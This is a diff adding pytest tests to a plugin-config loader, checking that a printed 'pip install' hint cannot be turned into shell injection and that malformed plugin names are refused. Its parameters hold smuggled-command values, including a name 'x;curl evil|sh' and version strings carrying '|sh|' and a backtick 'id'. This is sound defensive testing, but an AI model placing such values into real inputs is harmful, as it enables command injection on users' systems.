@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import sys
 import threading
 import time
@@ -11,6 +12,7 @@ from typing import Any
 
 import pytest
 
+from toolhost.config import load_config
 from toolhost.config.model import HostConfig, Origin, PluginRequirement, ServerConfig
 from toolhost.errors import ConfigError, PluginError
 from toolhost.plugins import PluginConfigError, activate
@@ -350,3 +352,36 @@ def test_a_thread_the_hook_left_behind_adds_nothing_later(make_plugin: MakePlugi
     assert reg.rules == []
     assert module.failures == ["plugin 'toolhost-late': add_rules() after register() "
                                "returned; everything is added while register(registry) runs"]
+
+
+@pytest.mark.parametrize("written", [
+    "\"toolhost-q===1'|sh|'\"",  # `===` takes any text but a space, ';' or ')'
+    "{name: toolhost-q, version: \"===1'`id`'\"}",
+])
+def test_a_pip_hint_pasted_into_a_shell_installs_what_it_says(tmp_path: Path,
+                                                              written: str) -> None:
+    """A fragment of a team's repository writes the requirement; the hint is pasted."""
+    import shlex
+
+    config = tmp_path / "toolhost.yaml"
+    config.write_text(f"toolhost: 1\nplugins: [{written}]\n")
+    with pytest.raises(ConfigError) as info:
+        load_config(config, layers=False)
+    (problem,) = info.value.problems
+    assert problem.message == "plugin 'toolhost-q' is not installed"
+    words = shlex.split(problem.hint)
+    assert words[:2] == ["pip", "install"] and len(words) == 3, problem.hint
+    assert words[2].startswith("toolhost-q===1'")
+
+
+@pytest.mark.parametrize("name", ["x;curl evil|sh", "a b", "x'y", "-e.", "x-"])
+def test_a_plugin_name_that_is_no_distribution_name_is_refused_at_its_line(
+        tmp_path: Path, name: str) -> None:
+    """The mapping form took any string, which then went into `pip install NAME`."""
+    config = tmp_path / "toolhost.yaml"
+    config.write_text(f"toolhost: 1\nplugins:\n  - name: {json.dumps(name)}\n")
+    with pytest.raises(ConfigError) as info:
+        load_config(config, layers=False)
+    (problem,) = info.value.problems
+    assert (problem.line, problem.key_path) == (3, "plugins[0].name")
+    assert problem.message == f"invalid plugin name {name!r}" and "pip" not in problem.hint
